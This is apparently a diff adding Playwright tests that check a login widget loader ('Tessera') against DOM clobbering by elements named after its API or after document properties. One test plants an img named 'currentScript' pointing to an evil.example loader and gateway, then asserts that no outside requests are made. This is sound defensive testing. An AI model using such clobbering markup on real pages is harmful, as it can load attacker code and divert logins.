@@ -1,0 +1,94 @@
+import { expect, type Page, test } from './fixtures.ts'
+
+const isReady = (page: Page, selector = '[data-tessera=account]') =>
+  expect(page.locator(selector)).toHaveAttribute('data-tessera-state', 'ready')
+const account = '<div data-tessera="account"></div>'
+
+/** Requests of the page to anywhere but this machine. */
+function foreignRequests(page: Page): string[] {
+  const found: string[] = []
+  page.on('request', (request) => {
+    if (!/^(localhost|127\.0\.0\.1)$/.test(new URL(request.url()).hostname) && !request.url().startsWith('data:')) found.push(request.url())
+  })
+  return found
+}
+
+test('a picture in the markup that is named currentScript gives neither code nor gateway', async ({ open, sandbox, page }) => {
+  const foreign = foreignRequests(page)
+  const picture = '<img name="currentScript" data-src="https://evil.example/tessera/loader.js" data-gateway="https://evil.example">'
+  await open(
+    `${picture}<script>
+      const [picture] = document.images
+      Object.defineProperty(picture, 'src', { value: picture.dataset.src }) // what the browser itself asks for would be counted
+    </script>${account}<script src="${sandbox.loader}" data-language="EN"></script>`,
+    { script: false },
+  )
+  await isReady(page)
+  await page.evaluate(() => window.Tessera?.open('login'))
+  await expect(page.getByRole('dialog')).toBeVisible()
+  expect(foreign).toEqual([])
+})
+
+for (const [what, markup] of [
+  ['a form with a field', '<form id="Tessera"><input name="version"><input name="q"></form>'],
+  ['two links', '<a id="Tessera" name="q"></a><a id="Tessera" name="version"></a>'],
+  ['a frame', '<iframe name="Tessera"></iframe>'],
+] as const)
+  test(`${what} in the markup under the name of the API keeps nothing from mounting`, async ({ open }) => {
+    const page = await open(`${markup}${account}`)
+    await isReady(page)
+    expect(await page.evaluate(() => typeof window.Tessera?.version)).toBe('string')
+  })
+
+test('calls are queued and replayed although a form in the markup has the name of the API', async ({ open, sandbox }) => {
+  const page = await open(
+    `<form id="Tessera"><input name="q"></form>
+    <script>
+      if (!Object.hasOwn(window, 'Tessera')) window.Tessera = { q: [] }
+      for (const n of ['configure', 'mount', 'open', 'close', 'on', 'setLanguage', 'setTheme']) Tessera[n] ??= (...a) => Tessera.q.push([n, a])
+      Tessera.open('login')
+    </script>${account}<script async src="${sandbox.loader}" data-language="EN"></script>`,
+    { script: false },
+  )
+  await isReady(page)
+  await expect(page.getByRole('dialog')).toBeVisible()
+})
+
+/** What the bundle reads from a document, and what a browser's test reads as well, so that it can't be hidden from it. */
+const read = 'currentScript documentElement body head title cookie hidden visibilityState fullscreenElement fullscreenEnabled activeElement'
+const called = 'querySelector querySelectorAll createElement createDocumentFragment addEventListener removeEventListener execCommand'
+
+for (const names of [read, called])
+  test(`markup named ${names.split(' ').slice(0, 3).join(', ')} … hides nothing from us`, async ({ open, sandbox, page, allow }) => {
+    allow(/is not a function/) // Playwright's own
+    await open('', { script: false })
+    const warnings: string[] = []
+    page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()))
+    // in a frame, which is looked at from outside: a test can't do without a document either
+    const state = await page.evaluate(
+      async ({ names, loader }) => {
+        const frame = document.createElement('iframe')
+        document.body.append(frame)
+        const inner = frame.contentDocument as Document
+        inner.open()
+        inner.write(
+          `<!doctype html><body>${names.map((name) => `<img name="${name}">`).join('')}<div data-tessera="account"></div><div data-tessera="lobby"></div>
+          <button data-tessera-open="login">Log in</button><script src="${loader}" data-language="EN"></script>`,
+        )
+        inner.close()
+        const own = { find: Document.prototype.querySelector.bind(inner), all: Document.prototype.querySelectorAll.bind(inner) }
+        const until = async (isSo: () => unknown) => {
+          for (let wait = 0; wait < 120 && !isSo(); wait++) await new Promise((resolve) => setTimeout(resolve, 50))
+        }
+        const states = () => [...own.all('[data-tessera]')].map((each) => (each as HTMLElement).dataset['tesseraState'])
+        await until(() => states().every((each) => each === 'ready'))
+        ;(own.find('button') as HTMLElement).click()
+        const dialog = () => own.find('[data-tessera-popups]')?.shadowRoot?.querySelector('dialog')
+        await until(dialog)
+        return { states: states(), dialog: dialog()?.open }
+      },
+      { names: names.split(' '), loader: sandbox.loader },
+    )
+    expect(state).toEqual({ states: ['ready', 'ready'], dialog: true })
+    expect(warnings).toEqual([])
+  })
